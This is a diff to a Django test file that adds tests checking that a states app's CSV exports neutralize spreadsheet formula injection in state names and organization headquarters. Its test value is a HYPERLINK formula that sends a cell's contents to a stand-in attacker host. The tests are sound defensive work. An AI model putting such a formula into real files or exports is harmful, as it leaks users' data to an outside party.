@@ -193,3 +193,24 @@ def test_the_state_list_shows_the_observer_states_alone(client):
     assert sorted(s.iso3 for s in response.context["states"]) == ["PSE", "VAT"]
     response = client.get(reverse("states:state_list"), {"un_member": "true"})
     assert len(response.context["states"]) == 193
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
+
+
+def test_a_state_name_that_looks_like_a_formula_is_neutralized_in_the_export(client):
+    kenya = State.objects.get(iso3="KEN")
+    kenya.names["fr"]["formal"] = FORMULA
+    kenya.save()
+    rows = csv_rows(client.get(reverse("states:state_export"), {"q": "Kenya"}))
+    assert rows[0]["formal_name_fr"] == "'" + FORMULA
+    kenya.refresh_from_db()
+    assert kenya.names["fr"]["formal"] == FORMULA  # the data keeps what was typed
+
+
+def test_an_organization_field_that_looks_like_a_formula_is_neutralized_in_the_export(client):
+    from smallarms.states.models import Organization
+
+    Organization.objects.filter(slug="ecowas").update(headquarters=FORMULA)
+    rows = csv_rows(client.get(reverse("states:organization_export"), {"q": "ecowas"}))
+    assert rows[0]["headquarters"] == "'" + FORMULA
